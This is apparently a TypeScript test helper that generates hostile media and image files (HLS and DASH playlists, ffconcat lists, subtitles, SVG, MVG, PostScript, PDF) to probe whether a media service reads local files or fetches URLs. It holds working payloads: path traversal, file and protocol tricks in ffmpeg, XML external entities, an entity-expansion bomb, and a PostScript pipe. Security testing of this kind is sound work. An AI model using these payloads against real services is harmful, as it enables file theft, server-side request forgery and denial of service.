import type { Canary } from './canary.ts'
import type { HostileFile } from './hostile-clips.ts'

type Target = Pick<Canary, 'clip' | 'image' | 'text' | 'port' | 'url'>

const hls = (...lines: string[]) =>
  `#EXTM3U\n#EXT-X-VERSION:7\n#EXT-X-TARGETDURATION:1\n${lines.join('\n')}\n#EXT-X-ENDLIST\n`
const dash = (inside: string, head = '') =>
  `<?xml version="1.0"?>${head}<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" xmlns:xlink="http://www.w3.org/1999/xlink" type="static" mediaPresentationDuration="PT1S"><Period>${inside}</Period></MPD>`
const dashOf = (address: string) =>
  dash(
    `<AdaptationSet mimeType="video/mp2t"><Representation id="1" bandwidth="1"><BaseURL>${address}</BaseURL></Representation></AdaptationSet>`,
  )
const svg = (inside: string, head = '') =>
  `${head}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64">${inside}</svg>`

/** Makes HLS playlists, the most common way to make ffmpeg open other files. */
function hlsPlaylists({ clip, url, text }: Target): Record<string, string> {
  const remote = `${url}/clip.ts`
  const up = `../../../../../../../..${clip}`
  return {
    'HLS of a path': hls('#EXTINF:1,', clip),
    'HLS of a file URL': hls('#EXTINF:1,', `file://${clip}`),
    'HLS of a path upwards': hls('#EXTINF:1,', up),
    'HLS of a URL': hls('#EXTINF:1,', remote),
    'HLS of a playlist': `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n${clip}\n`,
    'HLS of a remote playlist': `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n${url}/list.m3u8\n`,
    'HLS with a key file': hls(`#EXT-X-KEY:METHOD=AES-128,URI="${text}"`, '#EXTINF:1,', clip),
    'HLS with a remote key': hls(`#EXT-X-KEY:METHOD=AES-128,URI="${url}/key"`, '#EXTINF:1,', remote),
    'HLS with a map': hls(`#EXT-X-MAP:URI="file:${clip}"`, '#EXTINF:1,', remote),
    'HLS with other renditions': `#EXTM3U\n#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",NAME="a",URI="${remote}"\n#EXT-X-STREAM-INF:BANDWIDTH=1,AUDIO="a"\n${clip}\n`,
    'HLS of byte ranges': hls('#EXT-X-BYTERANGE:188@0', '#EXTINF:1,', clip),
    'HLS by concat:': hls('#EXTINF:1,', `concat:${remote}|file:${clip}`),
    'HLS by concat: of a header and a file': hls('#EXTINF:1,', `concat:${url}/header.m3u8|file://${text}`),
    'HLS by subfile:': hls('#EXTINF:1,', `subfile,,start,0,end,64,,:${clip}`),
    'HLS by crypto:': hls('#EXTINF:1,', `crypto+file:${clip}`),
    'HLS by data:': hls('#EXTINF:1,', `data:application/x-mpegURL,#EXTM3U%0a#EXTINF:1,%0a${remote}`),
    'HLS by tcp:': hls('#EXTINF:1,', remote.replace('http', 'tcp')),
    'HLS by gopher:': hls('#EXTINF:1,', remote.replace('http', 'gopher')),
    'HLS by pipe:': hls('#EXTINF:1,', 'pipe:0'),
    'HLS by async:cache:': hls('#EXTINF:1,', `async:cache:${clip}`),
    'HLS by a lavfi graph': hls('#EXTINF:1,', `lavfi:movie=${clip}`),
    'HLS after a byte order mark': `\uFEFF${hls('#EXTINF:1,', clip)}`,
    'HLS with Windows line ends': hls('#EXTINF:1,', clip).replaceAll('\n', '\r\n'),
    'HLS that updates forever': hls('#EXTINF:1,', remote).replace('#EXT-X-ENDLIST\n', ''),
  }
}

/** Makes other manifests, lists and descriptions that name files. */
function manifests({ clip, url, text, port }: Target): Record<string, string> {
  const remote = `${url}/clip.ts`
  const entity = (file: string) => `<!DOCTYPE MPD [<!ENTITY x SYSTEM "file://${file}">]>`
  return {
    'DASH of a file': dashOf(`file://${clip}`),
    'DASH of a URL': dashOf(remote),
    'DASH with an external entity': dash('<BaseURL>&x;</BaseURL>', entity(text)),
    'DASH with a remote period': dash('').replace('<Period>', `<Period xlink:href="${url}/period.xml">`),
    'DASH with templates': dash(
      `<AdaptationSet mimeType="video/mp4"><SegmentTemplate media="${url}/$Number$.m4s" initialization="file://${clip}" duration="1"/><Representation id="1" bandwidth="1"/></AdaptationSet>`,
    ),
    'ffconcat of a path': `ffconcat version 1.0\nfile '${clip}'\n`,
    'ffconcat of a URL': `ffconcat version 1.0\nfile '${remote}'\n`,
    'ffconcat of a path upwards': `ffconcat version 1.0\nfile '../../../../../..${clip}'\nduration 1\n`,
    'ffconcat with options': `ffconcat version 1.0\nfile '${clip}'\noption safe 0\noption protocol_whitelist file,http,tcp\n`,
    'a concat list without its header': `file '${clip}'\nfile '${remote}'\n`,
    'a session description': `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video ${port} RTP/AVP 96\na=rtpmap:96 H264/90000\n`,
    'a session description by TCP': `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\na=control:rtsp://127.0.0.1:${port}/\nm=video ${port} TCP/RTP/AVP 33\n`,
    'an RTSP redirect': `RTSPtextRTSP://127.0.0.1:${port}/clip\n`,
    'an RTSP redirect in lower case': `rtsptextrtsp://127.0.0.1:${port}/clip\r\n`,
    'an ASX list': `<asx version="3.0"><entry><ref href="${remote}"/></entry><entry><ref href="file://${clip}"/></entry></asx>`,
    'an ASX reference': `[Reference]\nRef1=${remote}\nRef2=${clip}\n`,
    'an XSPF list': `<?xml version="1.0"?><playlist version="1" xmlns="http://xspf.org/ns/0/"><trackList><track><location>file://${clip}</location></track><track><location>${remote}</location></track></trackList></playlist>`,
    'a PLS list': `[playlist]\nFile1=${clip}\nFile2=${remote}\nNumberOfEntries=2\nVersion=2\n`,
    'a plain M3U': `${clip}\n${remote}\n`,
    'a RealAudio metafile': `rtsp://127.0.0.1:${port}/clip.rm\n${remote}\n`,
    'a SMIL presentation': `<smil xmlns="http://www.w3.org/ns/SMIL"><body><seq><video src="file://${clip}"/><video src="${remote}"/></seq></body></smil>`,
    'a Flash manifest': `<manifest xmlns="http://ns.adobe.com/f4m/1.0"><media url="${remote}"/></manifest>`,
    'a Smooth Streaming manifest': `<SmoothStreamingMedia MajorVersion="2" Duration="1"><StreamIndex Type="video" Url="${remote}"/></SmoothStreamingMedia>`,
    'an IMF composition': `<CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"><SegmentList><Segment><SequenceList><MainImageSequence><TrackFileId>${clip}</TrackFileId></MainImageSequence></SequenceList></Segment></SegmentList></CompositionPlaylist>`,
    'a cue sheet': `FILE "${clip}" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n`,
    'an AviSynth script': `AviSource("${clip}")\n`,
    'a VapourSynth script': `import vapoursynth as vs\nvs.core.ffms2.Source("${clip}").set_output()\n`,
    'a lavfi graph': `movie=${clip}[out0]\n`,
    'an image pattern': `${clip.replace('clip.ts', '%d.png')}\n`,
    'ffmpeg metadata': `;FFMETADATA1\ntitle=${clip}\n[CHAPTER]\nTIMEBASE=1/1\nSTART=0\nEND=1\ntitle=${remote}\n`,
    'a VobSub index': `# VobSub index file, v7 (do not modify this line!)\nid: en, index: 0\ntimestamp: 00:00:00:000, filepos: 000000000\n# ${clip}\n`,
    'ASS subtitles with fonts and images': `[Script Info]\nScriptType: v4.00+\nVideo File: ${clip}\nAudio File: ${remote}\n[V4+ Styles]\n[Fonts]\nfontname: ${clip}\n[Events]\nFormat: Layer, Start, End, Text\nPicture: 0,0:00:00.00,0:00:01.00,,0,0,0,,${clip}\nMovie: 0,0:00:00.00,0:00:01.00,,0,0,0,,${remote}\n`,
    'SAMI subtitles': `<SAMI><HEAD><STYLE src="${remote}"></STYLE></HEAD><BODY><SYNC Start=0><P><img src="file://${clip}"></BODY></SAMI>`,
    'TTML subtitles': `<?xml version="1.0"?><!DOCTYPE tt [<!ENTITY x SYSTEM "${remote}">]><tt xmlns="http://www.w3.org/ns/ttml"><body><div><p begin="0s" end="1s">&x;</p></div></body></tt>`,
    'an Internet shortcut': `[InternetShortcut]\nURL=file://${clip}\nIconFile=${remote}\n`,
    'a web page that leads on': `<html><head><meta http-equiv="refresh" content="0;url=${remote}"></head><body><video src="file://${clip}"></video></body></html>`,
  }
}

/** Makes images that are programs or documents. */
function drawings({ image, url, text }: Target): Record<string, string> {
  const remote = `${url}/image.png`
  return {
    'SVG with a file': svg(`<image xlink:href="file://${image}" width="64" height="64"/>`),
    'SVG with a path': svg(`<image href="${image}" width="64" height="64"/>`),
    'SVG with a URL': svg(`<image href="${remote}" width="64" height="64"/>`),
    'SVG with an external entity': svg(
      '<text y="9">&x;</text>',
      `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file://${text}">]>`,
    ),
    'SVG with a remote definition': svg('', `<!DOCTYPE svg SYSTEM "${url}/svg.dtd">`),
    'SVG with XInclude': svg(
      `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="${text}"/>`,
    ),
    'SVG with a style sheet': svg(
      `<style>@import url("${url}/a.css"); @font-face{src:url(${remote})}</style>`,
    ),
    'SVG with entities that multiply': svg(
      '<text>&d;</text>',
      `<!DOCTYPE svg [<!ENTITY a "${'a'.repeat(1000)}"><!ENTITY b "${'&a;'.repeat(1000)}"><!ENTITY c "${'&b;'.repeat(1000)}"><!ENTITY d "${'&c;'.repeat(1000)}">]>`,
    ),
    'SVG after a space': ` ${svg(`<image href="${image}" width="64" height="64"/>`)}`,
    MVG: `push graphic-context\nviewbox 0 0 64 64\nimage over 0,0 0,0 'file://${image}'\nfill 'url(${remote})'\npop graphic-context\n`,
    MSL: `<?xml version="1.0"?><image><read filename="${image}"/><write filename="/tmp/written.png"/></image>`,
    'PostScript that reads files': `%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 64 64\n(${text}) (r) file 100 string readstring pop show\n(%pipe%id) (w) file\n`,
    'PDF with an external file': `%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(${remote})>>>>endobj\n2 0 obj<</F<</FS/URL/F(${image})>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`,
    'an XPM': `/* XPM */\nstatic char *x[] = {"1 1 1 1","a c ${image}","a"};\n`,
    'an XBM': '#define x_width 8\n#define x_height 1\nstatic char x_bits[] = {0x55};\n',
    'a PPM': 'P3\n1 1\n255\n255 0 0\n',
    'a table of numbers': '2 2\n1 2\n3 4\n',
    'a name of a file': `@${text}\n`,
    'a FITS header':
      `${'SIMPLE  =                    T'.padEnd(80)}${'BITPIX  =                    8'.padEnd(80)}${'END'.padEnd(80)}`.padEnd(
        2880,
      ),
  }
}

export function hostileTexts(target: Target): HostileFile[] {
  const entries = (service: HostileFile['service'], files: Record<string, string>) =>
    Object.entries(files).map(([name, text]) => ({ name, service, content: Buffer.from(text) }))
  return [
    ...entries('video', { ...hlsPlaylists(target), ...manifests(target) }),
    ...entries('image', drawings(target)),
  ]
}
